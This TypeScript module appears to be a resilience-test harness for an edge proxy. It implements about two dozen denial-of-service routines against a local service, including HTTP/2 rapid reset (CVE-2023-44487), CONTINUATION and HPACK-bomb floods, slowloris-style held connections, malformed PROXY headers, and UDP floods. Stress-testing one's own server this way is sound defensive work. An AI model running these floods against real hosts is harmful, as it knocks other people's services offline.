/**
 * What strangers do to a public port, each at a force that one machine has to spare. An attack runs until it is told to
 * stop and keeps what it has opened until it is released, so that its cost can be seen while it lasts.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { block, FRAME, frame } from './h2-client.ts';

/** Where the edge is, and a service that is attacked. Connections come from a trusted proxy at 127.0.0.1. */
export interface Prey {
  readonly httpsPort: number;
  readonly httpPort: number;
  readonly tcpPort: number;
  readonly udpPort: number;
  /** Of the HTTP service. */
  readonly host: string;
  /** The address that its attackers come from. */
  readonly from: string;
}

/** Attacks until `signal` aborts; the result lets go of everything. */
export type Attack = (prey: Prey, signal: AbortSignal) => Promise<() => void>;

/** What a trusted proxy sends ahead of a connection from `address`. */
export const proxyHeader = (address: string): string => `PROXY TCP4 ${address} 192.0.2.1 1000 443\r\n`;
const ignore = (): void => {};

/** A connection to `port` that begins with `header`; undefined when it was not taken. */
export async function reach(port: number, header: string): Promise<Socket | undefined> {
  const socket = connect({ port, host: '127.0.0.1', allowHalfOpen: true, noDelay: true }).on('error', ignore);
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(ignore);
  if (socket.destroyed) return undefined;
  if (header !== '') socket.write(header);
  return socket;
}

/** The same with TLS over it. */
export async function reachTls(prey: Prey, protocol: string, servername = prey.host): Promise<TLSSocket | undefined> {
  const socket = await reach(prey.httpsPort, proxyHeader(prey.from));
  if (socket === undefined) return undefined;
  const secure = connectTls({ socket, servername, rejectUnauthorized: false, ALPNProtocols: [protocol] });
  secure.on('error', ignore).on('close', () => socket.destroy());
  socket.on('close', () => secure.destroy());
  await Promise.race([once(secure, 'secureConnect'), once(secure, 'close')]).catch(ignore);
  return secure.destroyed ? undefined : secure.on('data', ignore);
}

/** Resolves when `socket` takes more, or never will. */
function eased(socket: Socket): Promise<void> {
  return new Promise((done) => {
    const over = (): void => {
      socket.off('drain', over).off('close', over);
      done();
    };
    socket.on('drain', over).on('close', over);
    if (socket.destroyed) over();
  });
}

const turn = (): Promise<void> => new Promise((done) => setImmediate(done));

/** Many at a time, one after another, each until it ends or `use` is done with it. */
const churn =
  (
    atOnce: number,
    open: (prey: Prey) => Promise<Socket | undefined>,
    use: (socket: Socket, prey: Prey) => void,
  ): Attack =>
  async (prey, signal) => {
    const one = async (): Promise<void> => {
      while (!signal.aborted) {
        const socket = await open(prey);
        if (socket === undefined) continue;
        use(socket, prey);
        const timer = setTimeout(() => socket.destroy(), 300);
        if (!socket.closed) await once(socket, 'close').catch(ignore);
        clearTimeout(timer);
      }
    };
    await Promise.all(Array.from({ length: atOnce }, one));
    return ignore;
  };

/** So many at once, kept open. */
const hold =
  (
    count: number,
    open: (prey: Prey) => Promise<Socket | undefined>,
    use: (socket: Socket, prey: Prey) => void,
  ): Attack =>
  async (prey, signal) => {
    const held: Socket[] = [];
    while (held.length < count && !signal.aborted) {
      const some = Math.min(50, count - held.length);
      for (const socket of await Promise.all(Array.from({ length: some }, () => open(prey)))) {
        if (socket === undefined) continue;
        use(socket, prey);
        held.push(socket);
      }
    }
    if (!signal.aborted) await once(signal, 'abort');
    return () => {
      for (const socket of held) socket.destroy();
    };
  };

const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.SETTINGS, 0, 0)]);
const fields = (prey: Prey, path: string, method = 'GET'): Buffer =>
  block([
    [':method', method],
    [':scheme', 'https'],
    [':path', path],
    [':authority', prey.host],
  ]);
const get = (prey: Prey, id: number, path = '/'): Buffer => frame(FRAME.HEADERS, 5, id, fields(prey, path));
const post = (prey: Prey, id: number): Buffer => frame(FRAME.HEADERS, 4, id, fields(prey, '/', 'POST'));
const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Frames without end on ten connections, each begun anew when it is cut. `make(n)` is the n-th of a connection. */
const flood =
  (make: (prey: Prey, n: number) => Buffer): Attack =>
  async (prey, signal) => {
    const one = async (): Promise<void> => {
      while (!signal.aborted) {
        const socket = await reachTls(prey, 'h2');
        if (socket === undefined) {
          await turn();
          continue;
        }
        const stop = (): void => void socket.destroy();
        signal.addEventListener('abort', stop, { once: true });
        socket.write(PREFACE);
        for (let n = 0; !signal.aborted && socket.writable; n += 100) {
          const some = Buffer.concat(Array.from({ length: 100 }, (_, i) => make(prey, n + i)));
          if (!socket.write(some)) await eased(socket);
          await turn();
        }
        signal.removeEventListener('abort', stop);
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 10 }, one));
    return ignore;
  };

/** A literal of 4000 bytes goes into the dynamic table, and is then named by one byte each. */
const bomb = (prey: Prey): Buffer =>
  Buffer.concat([
    fields(prey, '/'),
    Buffer.of(0x40, 1),
    Buffer.from('x'),
    Buffer.of(0x7f, 0xa1, 0x1e),
    Buffer.alloc(4000, 'y'),
    Buffer.alloc(12_000, 0xbe),
  ]);

const plain = (prey: Prey): Promise<Socket | undefined> => reach(prey.httpPort, proxyHeader(prey.from));
const main = (prey: Prey): Promise<Socket | undefined> => reach(prey.httpsPort, proxyHeader(prey.from));
const tcp = (prey: Prey): Promise<Socket | undefined> => reach(prey.tcpPort, proxyHeader(prey.from));
const h2 = async (prey: Prey): Promise<Socket | undefined> => {
  const socket = await reachTls(prey, 'h2');
  socket?.write(PREFACE);
  return socket;
};
const noise = (length: number): Buffer => Buffer.from(Array.from({ length }, (_, n) => (n * 7919 + 31) % 251));

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'rapid reset (CVE-2023-44487)': flood((prey, n) =>
    Buffer.concat([get(prey, 2 * n + 1), frame(FRAME.RST_STREAM, 0, 2 * n + 1, word(8))]),
  ),
  'made us reset': flood((prey, n) =>
    Buffer.concat([post(prey, 2 * n + 1), frame(FRAME.WINDOW_UPDATE, 0, 2 * n + 1, word(0))]),
  ),
  'CONTINUATION (CVE-2024-27316)': flood((prey, n) =>
    n === 0
      ? frame(FRAME.HEADERS, 0, 1, fields(prey, '/'))
      : frame(FRAME.CONTINUATION, 0, 1, block([[`x${n}`, 'y'.repeat(100)]])),
  ),
  'empty CONTINUATION': flood((prey, n) =>
    n === 0 ? frame(FRAME.HEADERS, 0, 1, fields(prey, '/')) : frame(FRAME.CONTINUATION, 0, 1),
  ),
  SETTINGS: flood(() => frame(FRAME.SETTINGS, 0, 0, Buffer.of(0, 4, 0, 1, 0, 0))),
  PING: flood(() => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  'empty DATA': flood((prey, n) => (n === 0 ? post(prey, 1) : frame(FRAME.DATA, 0, 1))),
  PRIORITY: flood(() => frame(FRAME.PRIORITY, 0, 3, Buffer.of(0, 0, 0, 0, 16))),
  'HPACK bombs': flood((prey, n) => frame(FRAME.HEADERS, 5, 2 * n + 1, bomb(prey))),
  'streams that are never read': hold(10, h2, (socket, prey) => {
    socket.pause();
    socket.write(Buffer.concat(Array.from({ length: 100 }, (_, n) => get(prey, 2 * n + 1, '/big'))));
  }),
  'uploads that nobody asked for': hold(10, h2, (socket, prey) => {
    for (let n = 0; n < 100; n++)
      socket.write(Buffer.concat([post(prey, 2 * n + 1), frame(FRAME.DATA, 0, 2 * n + 1, Buffer.alloc(16_000))]));
  }),
  'half-open connections': hold(10_000, main, ignore),
  'half a ClientHello': hold(2_000, main, (socket) => socket.write(Buffer.of(22, 3, 1, 2, 0, 1, 0, 1, 0xfc))),
  'a ClientHello byte by byte': hold(200, main, (socket) => {
    const hello = [22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    for (const byte of hello) socket.write(Buffer.of(byte));
  }),
  'unfinished large heads': hold(2_000, plain, (socket, prey) =>
    socket.write(`GET / HTTP/1.1\r\nHost: ${prey.host}\r\nX: ${'x'.repeat(60_000)}`),
  ),
  'pipelined nonsense': hold(300, plain, (socket) => {
    socket.pause();
    socket.write('GET / HTTP/1.1\r\nHost: nobody.localhost\r\n\r\n'.repeat(5_000));
  }),
  'chunks of one byte': churn(20, plain, (socket, prey) =>
    socket.write(
      `POST / HTTP/1.1\r\nHost: ${prey.host}\r\nTransfer-Encoding: chunked\r\n\r\n${'1\r\nx\r\n'.repeat(20_000)}`,
    ),
  ),
  'garbage on the main port': churn(50, main, (socket) => socket.write(noise(300))),
  'garbage on the plain port': churn(50, plain, (socket) => socket.write(noise(300))),
  'garbage as an agent': churn(
    20,
    (prey) => reachTls(prey, 'porthole/1', 'localhost'),
    (socket) => socket.write(noise(1000)),
  ),
  'PROXY headers without end': churn(
    50,
    (prey) => reach(prey.tcpPort, ''),
    (socket) =>
      socket.write(Buffer.concat([Buffer.from('0d0a0d0a000d0a515549540a2111ffff', 'hex'), Buffer.alloc(60_000)])),
  ),
  'TCP connections that are reset': churn(100, tcp, (socket) => {
    socket.write('hello');
    setImmediate(() => socket.resetAndDestroy());
  }),
  'TCP connections that half-close': churn(100, tcp, (socket) => socket.end('hello')),
  'TCP connections that read nothing': hold(100, tcp, (socket) => {
    socket.pause();
    socket.write(Buffer.alloc(1 << 20));
  }),
  'UDP from many ports': async (prey, signal) => {
    const sockets = Array.from({ length: 300 }, () => createSocket('udp4').on('error', ignore));
    while (!signal.aborted) {
      for (const socket of sockets) socket.send(noise(100), prey.udpPort, '127.0.0.1', ignore);
      await turn();
    }
    return () => {
      for (const socket of sockets) socket.close();
    };
  },
};
